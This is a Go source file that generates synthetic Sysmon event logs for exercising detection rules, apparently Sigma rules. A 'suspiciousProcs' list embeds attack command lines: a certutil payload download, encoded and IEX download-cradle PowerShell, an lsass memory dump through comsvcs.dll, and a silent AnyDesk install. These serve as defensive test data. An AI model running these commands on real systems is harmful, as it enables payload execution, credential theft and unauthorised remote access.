package sigma

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
)

// procSpec is one kind of process start the generator emits.
type procSpec struct {
	image, original, product, company, description string
	args                                           []string
	parents                                        []string
	weight                                         int
}

// benignProcs dominate the stream; suspicious ones are a few percent, as on real hosts.
var benignProcs = []procSpec{
	{`C:\Windows\System32\svchost.exe`, "svchost.exe", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Host Process for Windows Services",
		[]string{"-k netsvcs -p -s Schedule", "-k LocalServiceNetworkRestricted -p -s EventLog", "-k DcomLaunch -p", "-k UnistackSvcGroup"}, []string{`C:\Windows\System32\services.exe`}, 30},
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, "chrome.exe", "Google Chrome", "Google LLC", "Google Chrome",
		[]string{`--type=renderer --lang=en-US --renderer-client-id=%d --mojo-platform-channel-handle=%d /prefetch:1`,
			`--type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAw --mojo-platform-channel-handle=%d /prefetch:2`,
			`--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --mojo-platform-channel-handle=%d /prefetch:8`},
		[]string{`C:\Program Files\Google\Chrome\Application\chrome.exe`}, 25},
	{`C:\Windows\System32\conhost.exe`, "CONHOST.EXE", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Console Window Host",
		[]string{"0xffffffff -ForceV1"}, []string{`C:\Windows\System32\cmd.exe`, `C:\Program Files\Git\bin\bash.exe`}, 10},
	{`C:\Program Files\Microsoft VS Code\Code.exe`, "electron.exe", "Visual Studio Code", "Microsoft Corporation", "Visual Studio Code",
		[]string{`--type=utility --utility-sub-type=node.mojom.NodeService --user-data-dir="C:\Users\%s\AppData\Roaming\Code" --mojo-platform-channel-handle=%d /prefetch:8`},
		[]string{`C:\Program Files\Microsoft VS Code\Code.exe`}, 8},
	{`C:\Windows\System32\taskhostw.exe`, "taskhostw.exe", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Host Process for Windows Tasks",
		[]string{"", "Install $(Arg0)", "NGCKeyPregen"}, []string{`C:\Windows\System32\svchost.exe`}, 6},
	{`C:\Program Files\Git\cmd\git.exe`, "git.exe", "Git", "The Git Development Community", "Git for Windows",
		[]string{"fetch --all --prune", "status --porcelain=v2 --branch", "log -n 20 --format=%%H", "rev-parse --abbrev-ref HEAD"}, []string{`C:\Program Files\Microsoft VS Code\Code.exe`, `C:\Windows\System32\cmd.exe`}, 8},
	{`C:\Windows\System32\cmd.exe`, "Cmd.Exe", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Windows Command Processor",
		[]string{`/c "C:\Program Files\nodejs\npm.cmd" run build`, `/d /s /c "git config --get remote.origin.url"`, `/c echo %%PATH%%`}, []string{`C:\Windows\explorer.exe`, `C:\Program Files\Microsoft VS Code\Code.exe`}, 5},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "PowerShell.EXE", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Windows PowerShell",
		[]string{`-NoProfile -ExecutionPolicy Bypass -File "C:\Program Files\Company\agent\healthcheck.ps1"`, `-NoLogo -Command "Get-Service | Where-Object Status -eq Running"`}, []string{`C:\Windows\System32\svchost.exe`, `C:\Windows\explorer.exe`}, 3},
}

// suspiciousProcs are the few percent of the stream that rules should flag.
var suspiciousProcs = []procSpec{
	{`C:\Windows\System32\certutil.exe`, "CertUtil.exe", "Microsoft® Windows® Operating System", "Microsoft Corporation", "CertUtil.exe",
		[]string{`-urlcache -split -f http://198.51.100.%d/payload.bin C:\Users\Public\p.exe`}, []string{`C:\Windows\System32\cmd.exe`}, 1},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "PowerShell.EXE", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Windows PowerShell",
		[]string{`-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, `-ExecutionPolicy Bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.%d/a')"`},
		[]string{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`}, 1},
	{`C:\Windows\System32\rundll32.exe`, "RUNDLL32.EXE", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Windows host process (Rundll32)",
		[]string{`C:\Windows\System32\comsvcs.dll, MiniDump %d C:\Users\Public\lsass.dmp full`}, []string{`C:\Windows\System32\cmd.exe`}, 1},
	{`C:\Users\%s\AppData\Local\Temp\AnyDesk.exe`, "AnyDesk.exe", "AnyDesk", "AnyDesk Software GmbH", "AnyDesk",
		[]string{`--install "C:\Program Files (x86)\AnyDesk" --start-with-win --silent`}, []string{`C:\Windows\explorer.exe`}, 1},
}

// eventGen produces a deterministic stream of Sysmon EventID 1 events as evtx JSON.
type eventGen struct {
	r     *rand.Rand
	users []string
}

func newEventGen(seed uint64) *eventGen {
	return &eventGen{r: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), users: []string{"jdoe", "asmith", "m.garcia", "lchen", "svc_build", "administrator"}}
}

func (g *eventGen) hex(n int) string {
	const digits = "0123456789ABCDEF"
	var b strings.Builder
	for range n {
		b.WriteByte(digits[g.r.IntN(16)])
	}
	return b.String()
}

func (g *eventGen) guid() string {
	return fmt.Sprintf("{%s-%s-%s-%s-%s}", g.hex(8), g.hex(4), g.hex(4), g.hex(4), g.hex(12))
}

func (g *eventGen) pick(ps []procSpec) procSpec {
	total := 0
	for _, p := range ps {
		total += p.weight
	}
	n := g.r.IntN(total)
	for _, p := range ps {
		if n -= p.weight; n < 0 {
			return p
		}
	}
	return ps[0]
}

// fill replaces %d and %s in a template with random numbers and the user.
func (g *eventGen) fill(tmpl, user string) string {
	var b strings.Builder
	for i := 0; i < len(tmpl); i++ {
		if tmpl[i] == '%' && i+1 < len(tmpl) {
			switch tmpl[i+1] {
			case 'd':
				fmt.Fprintf(&b, "%d", 1+g.r.IntN(9000))
				i++
				continue
			case 's':
				b.WriteString(user)
				i++
				continue
			case '%':
				b.WriteByte('%')
				i++
				continue
			}
		}
		b.WriteByte(tmpl[i])
	}
	return b.String()
}

// next returns one event; about 2% are suspicious.
func (g *eventGen) next(i int) []byte {
	p := g.pick(benignProcs)
	if g.r.IntN(50) == 0 {
		p = g.pick(suspiciousProcs)
	}
	user := g.users[g.r.IntN(len(g.users))]
	image := g.fill(p.image, user)
	parent := p.parents[g.r.IntN(len(p.parents))]
	args := g.fill(p.args[g.r.IntN(len(p.args))], user)
	cmd := `"` + image + `" ` + args
	ts := g.timestamp(i)
	ev := map[string]any{"Event": map[string]any{
		"System": g.system(1, i, ts),
		"EventData": map[string]any{
			"RuleName":          "-",
			"UtcTime":           ts,
			"ProcessGuid":       g.guid(),
			"ProcessId":         1000 + g.r.IntN(30000),
			"Image":             image,
			"FileVersion":       "10.0.22621.3527 (WinBuild.160101.0800)",
			"Description":       p.description,
			"Product":           p.product,
			"Company":           p.company,
			"OriginalFileName":  p.original,
			"CommandLine":       cmd,
			"CurrentDirectory":  `C:\Users\` + user + `\`,
			"User":              `CORP\` + user,
			"LogonGuid":         g.guid(),
			"LogonId":           fmt.Sprintf("0x%x", g.r.IntN(1<<24)),
			"TerminalSessionId": 1,
			"IntegrityLevel":    []string{"Medium", "High", "System"}[g.r.IntN(3)],
			"Hashes":            "SHA1=" + g.hex(40) + ",MD5=" + g.hex(32) + ",SHA256=" + g.hex(64) + ",IMPHASH=" + g.hex(32),
			"ParentProcessGuid": g.guid(),
			"ParentProcessId":   1000 + g.r.IntN(30000),
			"ParentImage":       parent,
			"ParentCommandLine": `"` + parent + `"`,
		},
	}}
	return mustMarshal(ev)
}

func mustMarshal(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}

// timestamp returns the UtcTime of event i: one event a second from 2026-11-01.
func (g *eventGen) timestamp(i int) string {
	return fmt.Sprintf("2026-11-%02d %02d:%02d:%02d.%03d", 1+i/86400%28, i/3600%24, i/60%60, i%60, g.r.IntN(1000))
}

// system returns the Event.System block of a Sysmon event.
func (g *eventGen) system(eventID, i int, ts string) map[string]any {
	return map[string]any{
		"Provider":      map[string]any{"#attributes": map[string]any{"Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
		"EventID":       eventID,
		"Version":       5,
		"Level":         4,
		"Task":          eventID,
		"Keywords":      "0x8000000000000000",
		"TimeCreated":   map[string]any{"#attributes": map[string]any{"SystemTime": strings.Replace(ts, " ", "T", 1) + "Z"}},
		"EventRecordID": 100000 + i,
		"Execution":     map[string]any{"#attributes": map[string]any{"ProcessID": 3308, "ThreadID": 4008}},
		"Channel":       "Microsoft-Windows-Sysmon/Operational",
		"Computer":      fmt.Sprintf("WS-%04d.corp.example.com", g.r.IntN(500)),
	}
}

// Benign modules, destinations, domains and files of the other Sysmon event kinds.
var (
	loadedModules = []string{`C:\Windows\System32\ntdll.dll`, `C:\Windows\System32\kernel32.dll`, `C:\Windows\System32\KernelBase.dll`,
		`C:\Windows\System32\user32.dll`, `C:\Windows\System32\combase.dll`, `C:\Windows\System32\WinTypes.dll`,
		`C:\Program Files\Google\Chrome\Application\131.0.6778.86\chrome_elf.dll`, `C:\Windows\System32\amsi.dll`}
	destinations = []struct{ host, ip string }{{"www.google.com", "142.250.74.4"}, {"login.microsoftonline.com", "20.190.160.20"},
		{"github.com", "140.82.121.4"}, {"update.googleapis.com", "142.250.74.67"}, {"settings-win.data.microsoft.com", "20.42.65.92"}}
	createdFiles = []string{`C:\Users\%s\AppData\Local\Temp\chrome_BITS_%d.tmp`, `C:\Users\%s\Downloads\report-%d.pdf`,
		`C:\Windows\Prefetch\SVCHOST.EXE-%d.pf`, `C:\Users\%s\AppData\Roaming\Code\logs\%d\main.log`}
)

// mixed returns n events of several Sysmon kinds, as a host's stream holds them: process
// creation (EventID 1, about half, with next's few percent of suspicious ones), image
// loads (7), network connections (3), DNS queries (22) and file creations (11).
func (g *eventGen) mixed(n int) [][]byte {
	out := make([][]byte, n)
	for i := range out {
		switch k := g.r.IntN(100); {
		case k < 50:
			out[i] = g.next(i)
		case k < 70:
			out[i] = g.imageLoad(i)
		case k < 82:
			out[i] = g.network(i)
		case k < 92:
			out[i] = g.dns(i)
		default:
			out[i] = g.fileCreate(i)
		}
	}
	return out
}

// other returns the process, user and common EventData fields of a non-process event.
func (g *eventGen) other(i int) (procSpec, string, map[string]any) {
	p := g.pick(benignProcs)
	user := g.users[g.r.IntN(len(g.users))]
	ts := g.timestamp(i)
	data := map[string]any{
		"RuleName":    "-",
		"UtcTime":     ts,
		"ProcessGuid": g.guid(),
		"ProcessId":   1000 + g.r.IntN(30000),
		"Image":       g.fill(p.image, user),
		"User":        `CORP\` + user,
	}
	return p, user, data
}

func (g *eventGen) wrap(eventID, i int, data map[string]any) []byte {
	ts, _ := data["UtcTime"].(string)
	return mustMarshal(map[string]any{"Event": map[string]any{"System": g.system(eventID, i, ts), "EventData": data}})
}

func (g *eventGen) imageLoad(i int) []byte {
	p, _, data := g.other(i)
	mod := loadedModules[g.r.IntN(len(loadedModules))]
	data["ImageLoaded"] = mod
	data["FileVersion"] = "10.0.22621.3527 (WinBuild.160101.0800)"
	data["Description"] = p.description
	data["Product"] = p.product
	data["Company"] = p.company
	data["OriginalFileName"] = mod[strings.LastIndexByte(mod, '\\')+1:]
	data["Hashes"] = "SHA1=" + g.hex(40) + ",MD5=" + g.hex(32) + ",SHA256=" + g.hex(64) + ",IMPHASH=" + g.hex(32)
	data["Signed"] = "true"
	data["Signature"] = "Microsoft Windows"
	data["SignatureStatus"] = "Valid"
	return g.wrap(7, i, data)
}

func (g *eventGen) network(i int) []byte {
	_, user, data := g.other(i)
	d := destinations[g.r.IntN(len(destinations))]
	data["Protocol"] = "tcp"
	data["Initiated"] = "true"
	data["SourceIsIpv6"] = "false"
	data["SourceIp"] = fmt.Sprintf("10.20.%d.%d", g.r.IntN(256), 1+g.r.IntN(254))
	data["SourceHostname"] = fmt.Sprintf("WS-%04d.corp.example.com", g.r.IntN(500))
	data["SourcePort"] = 49152 + g.r.IntN(16000)
	data["SourcePortName"] = "-"
	data["DestinationIsIpv6"] = "false"
	data["DestinationIp"] = d.ip
	data["DestinationHostname"] = d.host
	data["DestinationPort"] = 443
	data["DestinationPortName"] = "https"
	_ = user
	return g.wrap(3, i, data)
}

func (g *eventGen) dns(i int) []byte {
	_, _, data := g.other(i)
	d := destinations[g.r.IntN(len(destinations))]
	data["QueryName"] = d.host
	data["QueryStatus"] = "0"
	data["QueryResults"] = "::ffff:" + d.ip + ";"
	return g.wrap(22, i, data)
}

func (g *eventGen) fileCreate(i int) []byte {
	_, user, data := g.other(i)
	data["TargetFilename"] = g.fill(createdFiles[g.r.IntN(len(createdFiles))], user)
	data["CreationUtcTime"] = data["UtcTime"]
	return g.wrap(11, i, data)
}

// events returns n generated events.
func (g *eventGen) events(n int) [][]byte {
	out := make([][]byte, n)
	for i := range out {
		out[i] = g.next(i)
	}
	return out
}
